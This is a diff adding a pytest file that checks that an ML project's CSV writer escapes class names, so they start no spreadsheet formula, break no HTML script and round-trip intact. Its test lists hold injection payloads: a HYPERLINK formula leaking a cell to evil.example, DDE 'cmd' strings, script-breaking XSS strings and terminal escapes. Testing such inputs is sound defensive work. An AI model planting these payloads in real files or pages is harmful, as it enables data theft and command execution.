@@ -1,0 +1,163 @@
+"""CSVs are opened in spreadsheets and written into pages: their texts start nothing there, and come back as they were."""
+
+import csv
+import io
+import re
+from contextlib import chdir
+from pathlib import Path
+
+from retrain.data import tables
+from retrain.evaluation import metrics, plots
+from retrain.evaluation.metrics import of_labels
+from retrain.models import description
+
+import pandas as pd
+import pytest
+from dvc import cli as dvc_cli
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from matplotlib.figure import Figure
+from support.model_folders import change, write_model
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
+    "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0dx", "\uff20x", "a;=1+1", "a\t=1+1", "a\r\n=1+1", ";;@x", "'=1+1", "''=1+1", "-",
+    "-1-1", "+1+1", "=", "1;-1+1", '"=1+1"', "a;\"'=1+1", "'\"@x",
+]  # fmt: skip
+PLAIN = [
+    "World", "Sci/Tech", "scikit-learn", "a=b", "a-b", "'90s", "rock 'n' roll", "5 < 6", "a@b.org", "-1", "+1", "-0.5", "-1e-05",
+    "café", "море", "a, b", 'a "b"', "a;b", "", "nan", "1", "01", "True",
+]  # fmt: skip
+MARKUP = ["</script><script>alert(1)</script>", "<!--", "<'/script>", "</b>", "<script>"]
+START = re.compile(r"[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\n]")
+NUMBER = re.compile(r"[+-]?[\d.]+(e[+-]?\d+)?", re.IGNORECASE)
+texts = st.text(st.sampled_from("'\"=+-@;,\t\r\n</!>a1.e \uff1d") | st.characters(codec="utf-8"), max_size=8)
+
+
+def written(table: pd.DataFrame, folder: Path) -> bytes:
+    """The bytes of a table's CSV, which must be read back as the same table."""
+    path = folder / "table.csv"
+    tables.write_csv(path, table)
+    read = tables.read_csv(path, "way out", text=[name for name in table.columns if name in ("target", "predicted")])
+    pd.testing.assert_frame_equal(read, table, check_dtype=False)
+    return path.read_bytes()
+
+
+def of_names(names: list[str]) -> pd.DataFrame:
+    """A table as predictions.csv is, with a row per name."""
+    numbers = [-1.5 * number for number in range(len(names))]
+    columns = {f"probability_{name}": numbers for name in dict.fromkeys(names)}
+    return pd.DataFrame({"target": names, "predicted": names[::-1], **columns}).astype({"target": "str"})
+
+
+def cells(content: bytes, separator: str) -> list[str]:
+    """What a spreadsheet puts into cells that is no number, where this is the separator of its language."""
+    rows = csv.reader(io.StringIO(content.decode(), newline=""), delimiter=separator)
+    return [cell for row in rows for cell in row if not NUMBER.fullmatch(cell)]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_no_name_starts_a_formula_in_a_spreadsheet_of_any_language(tmp_path, name):
+    content = written(of_names([name, "plain"]), tmp_path)
+    for separator in ",;\t":
+        assert [cell for cell in cells(content, separator) if START.match(cell.lstrip('"'))] == []
+    assert written(of_names([name, "plain"]), tmp_path) == content
+
+
+@pytest.mark.parametrize("name", PLAIN)
+def test_a_name_that_starts_nothing_is_written_as_it_is(tmp_path, name):
+    table = of_names([name, "plain"])
+    assert written(table, tmp_path).decode() == table.to_csv(index=False, lineterminator="\n")
+
+
+@pytest.mark.parametrize("name", MARKUP)
+def test_no_name_ends_the_script_of_a_page_that_it_is_written_into(tmp_path, name):
+    content = written(of_names([name, "plain"]), tmp_path)
+    assert b"</" not in content
+    assert b"<!" not in content
+
+
+@settings(deadline=None, max_examples=200)
+@given(name=texts)
+def test_what_is_disarmed_starts_nothing_and_comes_back(name):
+    escape_cell = tables.escape_cell(name)
+    assert tables.unescape_cell(escape_cell) == name
+    if not tables.NUMBER.fullmatch(name):
+        assert not any(START.match(part.lstrip('"')) for part in re.split(r"[;\t\r\n]", escape_cell))
+    assert not re.search("<[/!]", escape_cell)
+
+
+@settings(deadline=None, max_examples=30)
+@given(names=st.lists(texts, min_size=2, max_size=4, unique=True))
+def test_names_of_classes_come_back_from_a_file(tmp_path_factory, names):
+    written(of_names(names), tmp_path_factory.getbasetemp())
+
+
+def test_numbers_stay_numbers(tmp_path):
+    table = pd.DataFrame({"epoch": [1, 2], "loss": [-0.5, 1e-9], "other": [-1, 2]})
+    assert written(table, tmp_path) == b"epoch,loss,other\n1,-0.5,-1\n2,1e-09,2\n"
+
+
+def test_a_table_without_rows_is_its_header(tmp_path):
+    assert written(pd.DataFrame(columns=metrics.CLASSES), tmp_path) == b"class,precision,recall,f1,support\n"
+
+
+HOSTILE = [
+    *FORMULAS[:3],
+    *MARKUP[:2],
+    "](javascript:alert(1))",
+    "$x^$",
+    "$\\frac{1}{0}$",
+    "\\",
+    "a\nb\x1b[2J",
+    "x" * 10_000,
+    "%s{}",
+]
+"""Names that a spreadsheet, a page, Markdown, TeX, a terminal or a picture of any size might take for more."""
+
+
+def test_the_picture_of_a_confusion_matrix_takes_any_name(tmp_path):
+    path = tmp_path / "confusion.csv"
+    names = pd.Series(HOSTILE)
+    tables.write_csv(path, of_labels(names, names[::-1].reset_index(drop=True), HOSTILE).confusion)
+    folder = write_model(tmp_path / "mine", "text", "label")
+    learned = {"classes": HOSTILE, "counts": [1] * len(HOSTILE)}
+    change(folder, "target", "learned", to=learned)
+    confusion = tables.read_csv(path, "way out", text=("target", "predicted"))
+    assert confusion["target"].unique().tolist() == HOSTILE
+    report = plots.Report("mine", pd.DataFrame(), confusion, description.read(folder))
+    plots.use_default_style()
+    figure = Figure(layout="constrained")
+    plots.confusion(figure.subplots(), report)
+    figure.savefig(tmp_path / "confusion.png", dpi=50)
+    shown = [label.get_text() for label in figure.axes[0].get_xticklabels()]
+    assert shown[6] == "$x^$"
+    assert all(label.isprintable() and len(label) <= plots.LONGEST_LABEL for label in shown)
+
+
+def test_a_line_break_of_old_in_a_name_ends_no_row_even_if_it_stands_in_the_header_alone(tmp_path):
+    written(pd.DataFrame({"target": ["a"], "predicted": ["a"], "probability_b\rc": [0.5]}), tmp_path)
+
+
+@pytest.fixture(scope="module")
+def shown_by_dvc(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """The page that `dvc plots show` makes of predictions of hostile names, with the template that dvc.yaml names."""
+    folder = tmp_path_factory.mktemp("shown")
+    tables.write_csv(folder / "predictions.csv", of_names(HOSTILE))
+    (folder / "dvc.yaml").write_text(
+        "plots:\n- confusion:\n    template: confusion_normalized\n    x: predicted\n    y: {predictions.csv: target}\n"
+    )
+    (folder / ".dvc").mkdir()
+    (folder / ".dvc" / "config").write_text("[core]\nno_scm = true\nanalytics = false\ncheck_update = false\n")
+    with chdir(folder):
+        assert dvc_cli.main(["plots", "show", "--quiet"]) == 0
+    return (folder / "dvc_plots" / "index.html").read_text(encoding="utf-8")
+
+
+def test_names_that_end_a_script_do_not_end_it_in_the_page_of_dvc(shown_by_dvc):
+    assert "x^" in shown_by_dvc
+    assert "alert(1)" in shown_by_dvc
+    scripts = re.findall(r"<script[^>]*>(.*?)</script", shown_by_dvc, re.DOTALL)
+    (drawing,) = [script for script in scripts if "vegaEmbed" in script]
+    assert drawing.rstrip().endswith("vegaEmbed('#confusion', spec);")
+    assert "<!--" not in drawing
